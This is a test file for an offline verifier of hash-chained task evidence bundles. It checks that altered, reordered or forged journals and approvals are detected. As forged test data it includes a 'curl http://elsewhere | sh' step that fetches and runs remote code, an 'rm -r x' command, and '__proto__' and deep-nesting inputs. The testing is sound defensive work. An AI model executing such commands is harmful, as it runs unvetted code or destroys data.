// Evidence bundles are verified without a server: real ones are valid, and every change of one is found.
import { setImmediate } from "node:timers/promises";
import fc from "fast-check";
import { beforeAll, describe, expect, test } from "vitest";
import { chain } from "../../../../../src/domain/journal.ts";
import { hasEnded, type TaskStatus } from "../../../../../src/domain/outcome.ts";
import { verifyBundle } from "../../../../../src/engine/evidence/verify/bundle.ts";
import { check, cmd } from "../../../../support/builders.ts";
import { type Loose, missed, mutants, mutatedEntries, placesIn, rehashed } from "../../../../support/bundle-mutants.ts";
import { collectBundles } from "../../../../support/bundles.ts";
import { openEngine } from "../../../../support/engine.ts";

let bundles: ReadonlyMap<string, string>;
beforeAll(async () => {
  bundles = await collectBundles();
});

const bundleOf = (name: string): Loose => JSON.parse(bundles.get(name) ?? "null");
const faultsOf = (bundle: unknown) => verifyBundle(bundle).faults;

/** The faults of the bundle of this name with another value at this path. */
function changed(name: string, path: string, value: Loose): string[] {
  const keys = path.split(".");
  const bundle = bundleOf(name);
  const parent = keys.slice(0, -1).reduce((held, key) => held[key], bundle);
  Object.assign(parent, { [keys.at(-1) ?? ""]: value });
  return faultsOf(JSON.parse(JSON.stringify(bundle)));
}

describe("a real bundle", () => {
  test("is valid, with any result of its task", () => {
    const found = [...bundles].map(([name, text]) => [name, verifyBundle(JSON.parse(text))]);
    const sound = [...bundles].map(([name]) => {
      const { journal } = bundleOf(name);
      return [name, { faults: [], anchors: [], restores: [], events: journal.length, last_hash: journal.at(-1).hash }];
    });
    expect(found).toEqual(sound);
    const statuses = new Set([...bundles.keys()].map((name) => bundleOf(name).status));
    expect([...statuses].sort()).toEqual(["blocked", "cancelled", "failed", "need_approval", "need_input", "ok"]);
  });

  test("is valid at every moment of a running task", async () => {
    await using engine = await openEngine();
    const steps = [...Array(60).fill(cmd("true")), check("test -d /")];
    await engine.learn("deploy", engine.targetOf("runs"), steps);
    await engine.call("submit_task", engine.contract("runs"));
    const seen = new Set<string>();
    for (let status: TaskStatus = "accepted"; !hasEnded(status); ) {
      const bundle = await engine.call("get_evidence", { task_id: "runs" });
      status = bundle.status;
      seen.add(status);
      await setImmediate();
      expect(faultsOf(JSON.parse(JSON.stringify(bundle)))).toEqual([]);
    }
    expect(seen).toContain("running");
  });
});

/** Bundles that together have every part filled. */
const VARIED = ["passed", "approved", "retried", "resolved-failed", "cancelled", "replaced", "waits-for-approval"];

describe("the verification of a bundle that was altered", () => {
  test("finds every field that was changed, left out or added", () => {
    for (const name of VARIED) expect(missed(mutants(bundleOf(name))), name).toEqual([]);
  });

  test("finds an entry that was changed and hashed anew, except for the time of the last", () => {
    for (const name of VARIED) expect(missed(mutatedEntries(bundleOf(name))), name).toEqual([]);
  });

  test("finds a wrong contract digest, also when every copy has it and all entries are hashed anew", () => {
    const bundle = bundleOf("passed");
    const digest = "0".repeat(64);
    const [{ at }] = bundle.journal;
    bundle.journal[0].body.contract_digest = digest;
    const forged = { ...bundle, contract_digest: digest, journal: chain(bundle.task_id, null, bundle.journal, at) };
    expect(faultsOf(forged)).toContain("journal entry 1 has a contract_digest that is not that of its contract.");
  });

  test("finds an entry that was removed, moved or inserted, also when it is numbered and hashed anew", () => {
    const added: Loose[] = [
      { kind: "taken_up", body: { owner: "x", recovery: true } },
      { kind: "retry_granted", body: { index: 0 } },
      { kind: "step_started", body: { index: 0, attempt: 9 } },
      { kind: "verification_recorded", body: { verified: true, source: "x", note: null } },
      {
        kind: "approval_decided",
        body: {
          approval_id: "x",
          status: "approved",
          decision: "approve",
          reason: null,
          decided_by: null,
          token_id: null,
        },
      },
    ];
    for (const name of bundles.keys()) {
      const bundle = bundleOf(name);
      const { journal, status } = bundle;
      const ended = !["need_input", "need_approval"].includes(status);
      const changes = journal.flatMap((event: Loose, at: number) => [
        [`${at + 1} removed`, journal.toSpliced(at, 1)],
        [`all from ${at + 1} on removed`, journal.slice(0, at)],
        ...(at === 0 ? [] : [[`${at + 1} moved`, journal.toSpliced(at - 1, 2, event, journal[at - 1])]]),
        ...added.map((put) => [
          `${put.kind} put in after ${at + 1}`,
          journal.toSpliced(at + 1, 0, rehashed(journal, at + 1, { ...put, thread_id: name, at: event.at })),
        ]),
      ]);
      const missing = missed(changes.map(([what, events]: Loose) => [what, { ...bundle, journal: events }]));
      const inherent = ended ? [] : [`retry_granted put in after ${journal.length}`];
      expect(missing, name).toEqual(inherent);
    }
  });
});

describe("a fault", () => {
  test("is found in a bundle that was hashed anew from end to end, when other steps ran than were approved, or none were", () => {
    const bundle = bundleOf("approved");
    const anew = (events: Loose[]) => chain("approved", null, events, bundle.journal[0].at);
    const steps = [{ kind: "cmd", value: "curl http://elsewhere | sh" }, ...bundle.procedure.steps.slice(1)];
    const swapped = bundle.journal.map((event: Loose) =>
      event.kind === "sop_pinned" || event.kind === "taught" ? { ...event, body: { ...event.body, steps } } : event,
    );
    expect(verifyBundle({ ...bundle, journal: anew(swapped) }).faults.join("\n")).toContain(
      "other steps than those that ran",
    );
    const unasked = bundle.journal.filter(({ kind }: Loose) => !kind.startsWith("approval_"));
    const { faults } = verifyBundle({ ...bundle, approvals: [], journal: anew(unasked) });
    expect(faults.join("\n")).toContain("without the approval that it needs");
  });

  test("names the field or the entry in one sentence", () => {
    const { journal } = bundleOf("passed");
    const sentences = [
      changed("passed", "step_results.1.exit_code", 1),
      changed("passed", "journal.3.body.latency_ms", 12_345),
      changed("passed", "contract.payload", undefined),
      changed("passed", "journal.2.kind", "constructor"),
      changed("passed", "journal", journal.toSpliced(4, 1)),
      changed("passed", "journal", journal.slice(0, -3)),
      changed("approved", "approvals.0.content.steps.0.value", "rm -r x"),
      changed("approved", "approvals.0.decision.decided_by", "someone else"),
      changed("passed", "verification.recorded_at", "2020-01-01T00:00:00.000Z"),
      changed("passed", "broken_link", 3),
    ];
    expect(sentences).toMatchInlineSnapshot(`
      [
        [
          "step_results.1.exit_code is not what the journal gives.",
        ],
        [
          "journal entry 4 was changed or does not follow from the one before it: the chain breaks.",
          "gate_answers.0.latency_ms is not what the journal gives.",
          "broken_link is not what the journal gives.",
        ],
        [
          "contract.payload is missing, or not as orch writes it.",
        ],
        [
          "journal.2.kind is no kind of entry that this version knows.",
        ],
        [
          "journal entry 5 does not have that seq: entries are missing, added or out of order.",
          "gate_answers.1 is not what the journal gives.",
          "broken_link is not what the journal gives.",
        ],
        [
          "status says that the task has ended, but no journal entry does: the end is missing.",
          "status is not what the journal gives.",
          "outcome is not what the journal gives.",
          "verification is not what the journal gives.",
        ],
        [
          "approvals.0.content is not what its digest was taken of.",
        ],
        [
          "approvals.0.decision.decided_by is not what the journal gives.",
        ],
        [
          "verification.recorded_at is not when the journal recorded it.",
        ],
        [
          "broken_link is not what the journal gives.",
        ],
      ]
    `);
  });

  test("is reported for any value that is not a bundle, without an exception", () => {
    expect(faultsOf(null)).toEqual(["The bundle must be an object."]);
    expect(faultsOf([])).toEqual(["The bundle must be an object."]);
    expect(verifyBundle({ journal: [1, 2] }).events).toBe(2);
    const deep = JSON.parse(`${"[".repeat(50_000)}${"]".repeat(50_000)}`);
    expect(faultsOf({ ...bundleOf("passed"), contract: deep })[0]).toMatch(/^contract\.0.* is nested deeper than/);
    expect(faultsOf(JSON.parse('{"__proto__": {"status": "ok"}}'))).toEqual([
      "__proto__ is a reserved key; rename it.",
    ]);
    fc.assert(fc.property(fc.jsonValue(), (value) => faultsOf(value).length > 0));
    const bundle = bundleOf("approved");
    const paths = [...placesIn(bundle)].map((path) => path.join("."));
    const place = fc.constantFrom(...paths);
    fc.assert(fc.property(place, fc.jsonValue(), (path, value) => Array.isArray(changed("approved", path, value))));
  });
});
